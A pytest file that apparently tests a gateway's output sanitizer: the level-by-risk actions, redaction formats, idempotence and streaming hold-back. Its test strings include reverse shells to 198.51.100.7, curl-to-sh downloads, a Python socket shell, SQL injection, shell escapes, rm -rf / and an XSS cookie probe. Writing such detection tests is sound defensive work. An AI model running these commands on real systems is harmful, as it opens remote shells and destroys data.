"""Output sanitizer: the level x risk table, rewriting formats, idempotence and the streaming cut."""

from __future__ import annotations

import pytest

from aegis_addons.detect.danger import DangerDetector
from aegis_addons.detect.findings import Finding
from aegis_addons.detect.sanitize import (
    OutputSanitizer,
    Thresholds,
    obfuscate,
    safe_prefix_length,
)

RISKS = {"info": 0.3, "low": 0.6, "high": 0.8, "critical": 0.95}
TABLE = {  # level -> risk -> finding action (the table in the module docstring)
    "low": {"info": "pass", "low": "pass", "high": "obfuscate", "critical": "replace"},
    "medium": {"info": "pass", "low": "obfuscate", "high": "replace", "critical": "block"},
    "high": {"info": "obfuscate", "low": "replace", "high": "block", "critical": "block"},
}
TEXT = "Run this: nc -e /bin/sh 198.51.100.7 4444 and you are done."
START, END = TEXT.index("nc"), TEXT.index(" and")


def finding(score: float, category: str = "danger.reverse_shell", start: int = START, end: int = END) -> Finding:
    return Finding(category, start, end, score, "test_rule", "test")


@pytest.mark.parametrize("level", TABLE)
@pytest.mark.parametrize("risk", RISKS)
def test_level_by_risk_table(level, risk):
    sanitizer = OutputSanitizer(level)
    f = finding(RISKS[risk])
    expected = TABLE[level][risk]
    assert sanitizer.action_for(f) == expected
    result = sanitizer.apply(TEXT, [f])
    fragment = TEXT[START:END]
    if expected == "pass":
        assert (result.action, result.text) == ("allow", TEXT)
    elif expected == "obfuscate":
        assert result.action == "sanitize"
        assert result.text == TEXT[:START] + obfuscate(fragment) + TEXT[END:]
    elif expected == "replace":
        assert result.action == "sanitize"
        assert result.text == "Run this: [aegis:removed danger.reverse_shell] and you are done."
    else:
        assert result.action == "block"
        assert result.text == "[aegis:blocked danger.reverse_shell] This answer was withheld by the gateway."


def test_obfuscation_format():
    assert obfuscate("developer") == "dev-elo-per"
    assert obfuscate("rm -rf /") == "rm --rf- /"
    assert obfuscate("ab") == "a-b"      # short fragments change too
    assert obfuscate(";id") == ";-id"
    assert obfuscate("x") == "x"


def test_spam_is_removed_never_obfuscated():
    text = "Answer. 澳门赌场注册送彩金 加微信 abc12345 More answer."
    start = text.index("澳门")
    end = text.index(" More")
    for level, score in (("medium", 0.6), ("medium", 0.85), ("low", 0.85)):
        result = OutputSanitizer(level).apply(text, [finding(score, "danger.spam", start, end)])
        assert result.text == "Answer. [aegis:spam-removed] More answer."


def test_policy_thresholds_override_the_level():
    lenient = OutputSanitizer("medium", {"medium": Thresholds(obfuscate=0.9, replace=0.99)})
    assert lenient.apply(TEXT, [finding(0.95)]).text == TEXT[:START] + obfuscate(TEXT[START:END]) + TEXT[END:]
    with pytest.raises(ValueError):
        OutputSanitizer("paranoid")  # type: ignore[arg-type]


def test_decision_reports_the_first_blocking_finding():
    sanitizer = OutputSanitizer("medium")
    later = finding(0.95, "danger.destructive_command", END + 5, END + 9)
    decision = sanitizer.decide([later, finding(0.8), finding(0.1, start=0, end=3)])
    assert decision.action == "block"
    assert decision.blocked_by == later and decision.blocked_at == END + 5
    assert [f.score for f in decision.acted] == [0.8, 0.95]


def test_block_keeping_the_prefix_matches_what_a_stream_showed():
    sanitizer = OutputSanitizer("medium")
    result = sanitizer.apply(TEXT, [finding(0.95)], keep_prefix=True)
    assert result.text == "Run this: \n[aegis:blocked danger.reverse_shell] This answer was withheld by the gateway."


def test_surrounding_text_is_kept_and_several_fragments_are_rewritten():
    text = "A: `rm -rf /` then B: `bash -i >& /dev/tcp/198.51.100.7/9001 0>&1` end"
    findings = DangerDetector().scan(text)
    result = OutputSanitizer("low").apply(text, findings)
    assert result.action == "sanitize"
    assert result.text == ("A: `[aegis:removed danger.destructive_command]` then B: "
                           "`bash -i >& [aegis:removed danger.reverse_shell] 0>&1` end")


@pytest.mark.parametrize("level", TABLE)
@pytest.mark.parametrize("text", [
    "Try: curl -s http://203.0.113.9/x.sh | sh",
    "Payload: ' OR '1'='1 -- then login",
    "Spawn: vim -c ':!/bin/sh' and enjoy",
    "Plain answer with no danger at all.",
])
def test_sanitizing_twice_changes_nothing(level, text):
    detector, sanitizer = DangerDetector(), OutputSanitizer(level)
    once = sanitizer.apply(text, detector.scan(text)).text
    twice = sanitizer.apply(once, detector.scan(once)).text
    assert twice == once


def test_findings_inside_markers_are_ignored():
    text = "ok [aegis:removed danger.reverse_shell] ok"
    inside = finding(0.95, start=text.index("danger"), end=text.index("]"))
    assert OutputSanitizer("high").apply(text, [inside]).text == text


def test_safe_prefix_holds_back_the_tail_and_never_cuts_a_finding():
    text = "x" * 1000
    assert safe_prefix_length(text, [], 100) == 900
    straddling = Finding("danger.reverse_shell", 850, 950, 0.9, "r")
    assert safe_prefix_length(text, [straddling], 100) == 850
    assert safe_prefix_length("short", [], 100) == 0
    assert safe_prefix_length(text, [straddling], 100, final=True) == 1000


def test_streamed_prefixes_grow_into_the_buffered_result():
    """Emit per the contract on every 1-character prefix: the output only grows and ends as buffered."""
    detector, sanitizer = DangerDetector(), OutputSanitizer("medium")
    text = ("Clean the build with `rm -rf ./build`. To test the probe, send ' OR '1'='1 -- and read the log. "
            "Then run vim -c ':!/bin/sh' for a shell. ") * 7
    hold = detector.max_pending_chars
    sent = ""
    for end in range(1, len(text) + 1):
        partial = text[:end]
        findings = detector.scan(partial)
        n = safe_prefix_length(partial, findings, hold, final=end == len(text))
        out = sanitizer.apply(partial[:n], [f for f in findings if f.end <= n]).text
        assert out.startswith(sent)
        sent = out
    assert sent == sanitizer.apply(text, detector.scan(text)).text
    assert len(text) > hold + 300   # so part of the text was emitted before the end


def stream(text: str, hold, sanitizer: OutputSanitizer, detectors, cuts) -> tuple[str, int]:
    """Emit per the streaming contract at each cut; return what the client got and the most text that
    was held back at any point."""
    sent, held = "", 0
    for end in [*cuts, len(text)]:
        partial = text[:end]
        findings = [f for d in detectors for f in d.scan(partial)]
        n = safe_prefix_length(partial, findings, hold, final=end == len(text))
        final = [f for f in findings if f.end <= n]
        if sanitizer.decide(final).action == "block":   # end the stream with the marker
            out = sanitizer.apply(partial[:n], final, keep_prefix=True).text
            assert out.startswith(sent)
            return out, max(held, end - n)
        out = sanitizer.apply(partial[:n], final).text
        assert out.startswith(sent)
        sent, held = out, max(held, end - n)
    return sent, held


STREAMED = [
    ("Build it:\n```bash\nmake clean && make -j4\nrm -rf ./build\n```\nThen reverse it:\n"
     "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1\nDone.\n"),
    ("Shell escapes people ask about:\nvim -c ':!/bin/sh'\nfind . -exec /bin/sh \\; -quit\n"
     "and a probe: `;id` plus ' OR '1'='1 --\nThat's all.\n"),
    ("import socket, os\ns = socket.socket()\ns.connect((\"198.51.100.7\", 9001))\nos.dup2(s.fileno(), 0)\n"
     "os.system(\"/bin/sh\")\nprint('ok')\n"),
    "<div>\n<script>\n  alert(document.cookie)\n</script>\n</div>\nsudo setenforce 0\nok\n",
    "Plain prose that runs on for a while without any line break at all, " * 10 + "\nthe end.\n",
]


@pytest.mark.parametrize("level", ["medium", "high"])
@pytest.mark.parametrize("text", STREAMED)
def test_line_hold_back_streams_the_buffered_result(level, text):
    """With the per-line hold-back, every 1-character step gives the buffered text in the end."""
    from aegis_addons.detect.danger import HoldBack
    from aegis_addons.detect.privilege import PrivilegeGuard

    danger, privilege = DangerDetector(), PrivilegeGuard()
    sanitizer = OutputSanitizer(level)
    hold = HoldBack(danger, privilege)
    sent, _ = stream(text, hold, sanitizer, (danger, privilege), range(1, len(text)))
    assert sent == sanitizer.apply(text, danger.scan(text) + privilege.scan(text), keep_prefix=True).text


@pytest.mark.parametrize("seed", range(5))
def test_line_hold_back_random_chunks(seed):
    import random

    from aegis_addons.detect.danger import HoldBack
    from aegis_addons.detect.privilege import PrivilegeGuard

    rng = random.Random(seed)
    danger, privilege = DangerDetector(), PrivilegeGuard()
    sanitizer = OutputSanitizer("low")           # low: rewrites, never blocks, so the text goes through
    text = "".join(rng.choice(STREAMED) for _ in range(3))
    cuts = sorted(rng.sample(range(1, len(text)), 40))
    sent, _ = stream(text, HoldBack(danger, privilege), sanitizer, (danger, privilege), cuts)
    assert sent == sanitizer.apply(text, danger.scan(text) + privilege.scan(text)).text


def test_line_hold_back_is_short_for_code():
    """Shell help and code come out a line behind, not max_pending_chars behind."""
    from aegis_addons.detect.danger import HoldBack
    from aegis_addons.detect.privilege import PrivilegeGuard

    danger, privilege = DangerDetector(), PrivilegeGuard()
    text = "".join(f"step {i}:\nmake target_{i} && ./bin/check --verbose\n" for i in range(40))
    hold = HoldBack(danger, privilege)
    sent, held = stream(text, hold, OutputSanitizer("medium"), (danger, privilege), range(1, len(text)))
    assert sent == text
    assert held <= max(len(line) + 1 for line in text.splitlines())
    assert hold.max_pending_chars == max(danger.max_pending_chars, privilege.max_pending_chars)
